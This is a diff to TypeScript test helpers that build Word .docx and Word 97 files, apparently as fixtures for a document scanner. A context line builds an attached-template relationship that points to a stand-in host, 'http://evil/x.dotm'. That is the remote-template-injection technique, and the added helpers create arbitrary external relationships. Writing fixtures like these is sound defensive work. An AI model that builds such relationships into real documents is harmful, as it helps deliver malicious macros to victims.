@@ -41,6 +41,35 @@ export const templateRelation = (mode: string, type = 'attachedTemplate'): ZipEn
   data: `<Relationships><Relationship Id="rId1" Type="http://x/${type}" Target="http://evil/x.dotm" TargetMode="${mode}"/></Relationships>`,
 });
 
+/** A list of relationships with one that leads to `target`, of a kind by its last word. */
+export const relation = (
+  kind: string,
+  target: string,
+  { mode = 'External', part = 'document' }: { mode?: string; part?: string } = {},
+): ZipEntry => ({
+  name: `word/_rels/${part}.xml.rels`,
+  data: `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
+});
+
+/** A Word document whose text holds this XML, and no other part named so. */
+export const docxSaying = (xml: string | Buffer, ...more: ZipEntry[]): Buffer =>
+  zipFile([
+    { name: '[Content_Types].xml', data: '<Types/>' },
+    {
+      name: 'word/document.xml',
+      data: typeof xml === 'string' ? `<w:document><w:body>${xml}</w:body></w:document>` : xml,
+    },
+    ...more,
+  ]);
+
+/** A Word document whose parts are declared like this. */
+export const docxDeclaring = (types: string | Buffer, ...more: ZipEntry[]): Buffer =>
+  zipFile([
+    { name: '[Content_Types].xml', data: types },
+    { name: 'word/document.xml', data: '<w:document>Licence</w:document>' },
+    ...more,
+  ]);
+
 /** A Word 97 document with further streams. */
 export const docFile = (...names: string[]): Buffer =>
   oleFile([{ name: 'WordDocument' }, { name: '1Table' }, ...names.map((name) => ({ name }))]);
